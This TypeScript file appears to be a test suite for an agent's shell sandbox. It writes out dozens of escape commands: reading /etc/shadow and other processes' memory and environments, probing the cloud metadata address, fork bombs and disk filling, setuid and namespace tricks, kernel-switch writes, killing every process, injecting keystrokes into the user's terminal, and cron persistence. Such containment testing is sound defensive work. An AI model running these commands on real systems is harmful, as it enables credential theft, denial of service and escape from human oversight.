// Ways out of a shell, each as one command. A way that succeeds prints the secret, or ESCAPED, or is seen
// from outside: somebody is called, a file is changed, a process goes on.

/** What stands outside, which a command wants to reach. */
export interface Outside {
  /** A folder of somebody's, with the files `secret.txt` and `.bashrc`. */
  readonly home: string
  /** A port of this machine where somebody listens, over TCP and UDP. */
  readonly port: number
  /** The name of an abstract socket where somebody listens. */
  readonly socket: string
  /** A process of somebody's. */
  readonly victim: number
}

export interface Attempt {
  readonly name: string
  readonly command: (outside: Outside) => string
  /** What is to be said in the host's shell, where silence would be no proof that the way was tried. */
  readonly held?: RegExp
}

const python = (script: string) => `python3 - <<'PYTHON'\n${script}\nPYTHON`

/** Python that tries each line by itself and says how it went. */
const each = (lines: readonly string[], before = '') =>
  python(`${before}
for line in ${JSON.stringify(lines)}:
  try:
    print('got', eval(line))
  except BaseException as error:
    print('refused', type(error).__name__, error)`)

/** Python that makes calls of the kernel itself, and says ESCAPED for one that succeeds. */
const calls = (lines: readonly string[]) =>
  python(`import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for line in ${JSON.stringify(lines)}:
  done = eval(line)
  print(line, done, os.strerror(ctypes.get_errno()), 'ESCAPED' if done >= 0 else 'refused')`)

export const attempts: readonly Attempt[] = [
  {
    name: 'passwords of the system',
    command: () => 'cat /etc/shadow /etc/gshadow /etc/sudoers && echo ESCAPED',
    held: /No such file/,
  },
  {
    name: 'the folders of others',
    command: ({ home }) =>
      `cat ${home}/secret.txt; ls -A /root /home ${home} && echo ESCAPED; grep -rs "the secret" / --include=secret.txt --exclude-dir=proc --exclude-dir=usr --exclude-dir=lib`,
    held: /No such file/,
  },
  {
    name: 'the environment of all processes',
    command: () => "env; cat /proc/*/environ | tr '\\0' '\\n'; cat /proc/1/environ /proc/1/cmdline",
    held: /HOME=\/tmp/,
  },
  {
    name: 'another root by way of a process',
    command: ({ home, victim }) =>
      `for p in 1 ${victim} self; do cat /proc/$p/root${home}/secret.txt /proc/$p/cwd/secret.txt; done; cat /work/../../../..${home}/secret.txt`,
    held: /No such file/,
  },
  {
    name: 'files that are open in the agent',
    command: () =>
      'ls -l /proc/self/fd; for fd in 3 4 5 6 7 8 9 10 11; do head -c 9 <&$fd && echo ESCAPED; done',
    held: /Bad file descriptor/,
  },
  {
    name: 'a call by curl',
    command: ({ port }) => `curl -sS -m 3 http://127.0.0.1:${port}/ && echo ESCAPED`,
    held: /curl|not found/,
  },
  {
    name: 'a call by the shell itself',
    command: ({ port }) =>
      `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3; exec 4<>/dev/tcp/localhost/${port} && cat <&4`,
    held: /refused/,
  },
  {
    name: 'words over UDP',
    command: ({ port }) => `echo secret > /dev/udp/127.0.0.1/${port}; echo over`,
    held: /over/,
  },
  {
    name: 'a call by Python, over every protocol',
    command: ({ port }) =>
      each(
        [
          `socket.create_connection(('127.0.0.1', ${port}), 2)`,
          `socket.create_connection(('1.1.1.1', 53), 2)`,
          `socket.create_connection(('169.254.169.254', 80), 2)`,
          'socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)',
          'socket.socket(socket.AF_PACKET, socket.SOCK_RAW)',
          'socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)',
          'socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)',
          'socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)',
          'socket.socket(socket.AF_BLUETOOTH, socket.SOCK_RAW, 1)',
        ],
        'import socket',
      ),
    held: /^(?!.*got)[\s\S]*refused[\s\S]*refused/,
  },
  {
    name: 'names looked up',
    command: () =>
      `getent hosts example.com && echo ESCAPED; ${each(["socket.getaddrinfo('secret.example.com', 80)"], 'import socket')}`,
    held: /refused gaierror/,
  },
  {
    name: 'a socket that lies among what is given',
    command: () =>
      each(
        [
          "socket.socket(socket.AF_UNIX).connect('/files/notes/socket')",
          "open('/files/notes/pipe', 'w')",
          "open('/files/notes/socket').read()",
        ],
        'import socket',
      ),
    held: /refused[\s\S]*refused[\s\S]*refused/,
  },
  {
    name: 'a socket without a file',
    command: ({ socket }) =>
      each([`socket.socket(socket.AF_UNIX).connect('\\0${socket}')`], 'import socket'),
    held: /refused/,
  },
  {
    name: 'the memory of another process',
    command: ({ victim }) =>
      calls([
        'libc.ptrace(16, 1, 0, 0)',
        `libc.ptrace(16, ${victim}, 0, 0)`,
        'libc.process_vm_readv(1, None, 0, None, 0, 0)',
      ]),
    held: /refused[\s\S]*refused[\s\S]*refused/,
  },
  {
    name: 'processes without end',
    command: () => ':(){ :|:& };:; f() { f | f & }; f; sleep 100',
    held: /was stopped/,
  },
  {
    name: 'processes that hide from their parent',
    command: () => `for i in $(seq 1000); do (setsid sleep 98765 &) ; done; sleep 100`,
    held: /was stopped|Resource temporarily unavailable/,
  },
  {
    name: 'memory of one process',
    command: () => python('held = []\nwhile True: held.append(bytearray(10 ** 8))'),
    held: /MemoryError|was stopped/,
  },
  {
    name: 'memory of many processes',
    command: () =>
      `for i in 1 2 3 4 5; do python3 -c 'held = bytearray(b"x") * 900_000_000; import time; time.sleep(60)' & done; wait`,
    held: /of memory and was stopped|MemoryError/,
  },
  {
    name: 'memory that no process holds',
    command: () => calls(["libc.memfd_create(b'x', 0)", 'libc.shmget(0, 10 ** 9, 0o1600)']),
    held: /refused[\s\S]*refused/,
  },
  {
    name: 'a file as large as the disk',
    command: () => 'head -c 100G /dev/zero > big; head -c 100G /dev/zero > /tmp/big; echo over',
    held: /File size limit|ENOSPC/,
  },
  {
    name: 'many large files',
    command: () => 'i=0; while true; do head -c 50M /dev/zero > f$i; i=$((i + 1)); done',
    held: /ENOSPC/,
  },
  {
    name: 'files without number, where nobody counts them',
    command: () =>
      'for d in /work /tmp /dev/shm; do (i=0; while true; do : > $d/$((i++)); done) & done; sleep 60',
    held: /ENOSPC/,
  },
  {
    name: 'writing elsewhere',
    command: ({ home }) =>
      `for f in ${home}/new ${home}/.bashrc /etc/x /usr/x /usr/bin/x /x /files/x /dev/x /proc/sys/kernel/core_pattern /sys/x /var/x /command; do echo x > $f; done; echo over`,
    held: /Read-only file system/,
  },
  {
    name: 'symbolic links out',
    command: ({ home }) =>
      `ln -s ${home}/secret.txt link; cat link; ln -s ${home} up; cat up/secret.txt; echo x > up/new; ln -s ${home}/.bashrc rc; echo x >> rc; tar cf t.tar --dereference link up; echo over`,
    held: /secret\.txt: No such file/,
  },
  {
    name: 'hard links out, made and found',
    command: ({ home }) =>
      `ln ${home}/secret.txt hard && echo ESCAPED; cat /files/notes/hard.txt && echo ESCAPED; cp /files/notes/hard.txt copy && echo ESCAPED; ln /files/orders.csv mine && echo x > mine && echo ESCAPED`,
    held: /Permission denied/,
  },
  {
    name: 'what was given is changed',
    command: () =>
      `echo x > /files/orders.csv; sed -i s/North/X/ /files/orders.csv; chmod 777 /files/orders.csv; rm -rf /files/orders.csv /files/notes; mv /files/orders.csv .; truncate -s 0 /files/orders.csv; touch /files/notes/new && echo ESCAPED; ${each(["open('/files/orders.csv', 'w')"])}`,
    held: /Read-only file system/,
  },
  {
    name: 'what goes on after the call',
    command: () =>
      `(setsid nohup sleep 98765 > /dev/null 2>&1 &); nohup sleep 98765 & disown; ${python("import os\nif hasattr(os, 'fork') and os.fork() == 0:\n  os.setsid()\n  os.execvp('sleep', ['sleep', '98765'])")}; echo over`,
    held: /over/,
  },
  {
    name: 'programs of other users',
    command: () =>
      'for p in "su -c id" "sudo -n id" "pkexec id" "newgrp root" "mount" "passwd -d root" "chsh -s /bin/sh"; do $p < /dev/null && [ "$(id -u)" = 0 ] && echo ESCAPED; done; cp /bin/bash b; chmod 6777 b; ./b -p -c "id -u"; setpriv --reuid 0 id && echo ESCAPED; echo over',
    held: /over/,
  },
  {
    name: 'mounts and namespaces',
    command: () =>
      `mount -t tmpfs x /tmp && echo ESCAPED; mount -o remount,rw / && echo ESCAPED; umount /files && echo ESCAPED; unshare -Urm id && echo ESCAPED; bwrap --bind / / id && echo ESCAPED; chroot / id && echo ESCAPED; ${calls(['libc.mount(b"x", b"/tmp", b"tmpfs", 0, None)', 'libc.unshare(0x10000000)', 'libc.setns(0, 0)', 'libc.umount2(b"/files", 2)', 'libc.syscall(435, None, 0)', 'libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)', 'libc.syscall(428, -100, b"/", 1)'])}`,
    held: /refused[\s\S]*refused/,
  },
  {
    name: 'the kernel by way of its own calls',
    command: () =>
      calls([
        'libc.syscall(321, 0, None, 0)',
        'libc.syscall(425, 8, None)',
        'libc.syscall(323, 0)',
        'libc.syscall(250, 0, -3, 1)',
        'libc.syscall(298, None, 0, -1, -1, 0)',
        'libc.syscall(304, 0, None, 0)',
        'libc.syscall(103, 10, None, 0)',
        'libc.syscall(0x40000000 + 39)',
      ]),
    held: /refused[\s\S]*refused/,
  },
  {
    name: 'control groups and switches of the kernel',
    command: () =>
      'ls /sys/fs/cgroup && echo ESCAPED; mkdir -p /sys/fs/cgroup/x; echo 1 > /sys/fs/cgroup/release_agent; echo b > /proc/sysrq-trigger; echo /x > /proc/sys/kernel/core_pattern; echo 1 > /proc/sys/vm/drop_caches; echo -1000 > /proc/self/oom_score_adj; echo over',
    held: /denied/,
  },
  {
    name: 'devices',
    command: () =>
      'mknod disk b 8 0 && echo ESCAPED; for d in sda vda nvme0n1 mem kmem kmsg port fuse kvm; do head -c 9 /dev/$d && echo ESCAPED; done; dmesg && echo ESCAPED; echo over',
    held: /vda' for reading: No such file/,
  },
  {
    name: 'signals to others',
    command: ({ victim }) =>
      `kill -9 ${victim}; kill -9 -${victim}; killall -9 node; pkill -9 -f sleep; ${each([`os.kill(${victim}, 9)`, 'os.kill(os.getppid(), 0)'], 'import os')}; kill -9 -1`,
  },
  {
    name: 'limits raised again',
    command: () =>
      'ulimit -u unlimited && echo ESCAPED; ulimit -d unlimited && echo ESCAPED; ulimit -f unlimited && echo ESCAPED; prlimit --nproc=unlimited --pid $$ && echo ESCAPED; echo over',
    held: /size: cannot modify limit/,
  },
  {
    name: 'letters put into the terminal of the person',
    command: () =>
      each(
        ["fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), termios.TIOCSTI, b'x')"],
        'import fcntl, os, termios',
      ),
    held: /refused/,
  },
  { name: 'words without end', command: () => 'yes', held: /printed more than/ },
  {
    name: 'a command that does not end',
    command: () => "trap '' TERM INT HUP; while true; do sleep 1000; done",
    held: /took longer/,
  },
  {
    name: 'folders that nobody can remove',
    command: () =>
      'mkdir closed && echo x > closed/x && chmod 000 closed; n=$(printf "d%.0s" {1..200}); for i in $(seq 100); do mkdir $n && cd $n || break; done; echo over',
    held: /over/,
  },
  {
    name: 'work put off until later',
    command: () =>
      'echo "* * * * * touch /tmp/x" | crontab - && echo ESCAPED; echo touch /tmp/x | at now && echo ESCAPED; systemd-run --user true && echo ESCAPED; echo over',
    held: /over/,
  },
]
